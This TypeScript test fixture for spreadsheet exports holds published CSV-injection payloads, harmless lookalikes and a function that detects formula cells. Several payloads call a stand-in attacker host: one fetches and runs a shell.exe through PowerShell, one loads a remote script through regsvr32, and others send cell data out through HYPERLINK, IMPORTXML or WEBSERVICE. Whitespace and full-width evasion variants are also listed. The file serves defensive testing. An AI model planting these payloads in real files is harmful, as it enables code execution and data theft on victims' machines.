// CSV-injection payloads as published (OWASP's "CSV Injection" page and the public payload collections), plus the
// variants that hide a formula behind white space or full-width signs. Every export is tested against them.

/** Cells a spreadsheet would run, or that open a link or a remote lookup when the file is opened. */
export const FORMULA_PAYLOADS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=2+5+cmd|' /C calc'!A0`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@SUM(A1:A10)`,
  `=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click for further information")`,
  `=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=IMPORTRANGE("https://docs.example/spreadsheets/d/secret", "sheet1!A1:Z100")`,
  `=IMAGE("https://attacker.example/pixel.png")`,
  `=WEBSERVICE("http://attacker.example/?"&A1)`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll'!''`,
  `=cmd|'/c "calc.exe"'!A1;=1`,
  // Hidden behind a control character or white space, which spreadsheets skip.
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `\n-3+3+cmd|' /C calc'!D2`,
  `\r\n=HYPERLINK("http://attacker.example","x")`,
  ` =1+1`,
  `   @SUM(A1)`,
  `\u00A0=1+1`,
  `\u3000=1+1`,
  `\t\u00A0 +cmd|' /C calc'!A0`,
  // Full-width signs, which spreadsheets in East Asian locales read as the ASCII ones.
  `\uFF1D1+1`,
  `\uFF0B1+1`,
  `\uFF0D1+1`,
  `\uFF20SUM(A1)`,
  ` \uFF1DHYPERLINK("http://attacker.example","x")`,
];

/** Look alike but start with plain text, so they must be written exactly as they are. */
export const INERT_LOOKALIKES: readonly string[] = [
  'a=1+1',
  'user-1',
  'DDE ("cmd";"/C calc";"!A0")A0',
  'plain text, with a comma',
  '"quoted"',
];

/**
 * Whether a spreadsheet would run the cell as a formula: after any white space (which it skips), a formula sign
 * in ASCII or full width, or a tab or carriage return first. Written apart from the product's guard on purpose.
 */
export function runsAsFormula(cell: string): boolean {
  return /^[\t\r]/.test(cell) || /^[\s\u00A0\u3000\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);
}
